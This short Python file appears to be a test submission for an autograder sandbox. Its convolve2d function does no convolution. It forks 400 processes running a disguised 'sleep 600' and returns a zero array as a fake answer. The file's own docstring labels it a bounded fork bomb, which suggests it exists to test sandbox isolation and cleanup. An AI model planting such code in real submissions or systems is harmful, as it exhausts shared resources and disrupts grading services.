"""A fork bomb bounded to a few hundred long-sleeping processes."""
# gradescope: yes
# otter: no
# zeroes: q3
# message: convolve2d


def convolve2d(image, kernel):
    import os

    for _ in range(400):
        if os.fork() == 0:
            os.execvp("bash", ["bash", "-c", "exec -a convlab-attack-leftover-marker sleep 600"])
    return np.zeros((1, 1))
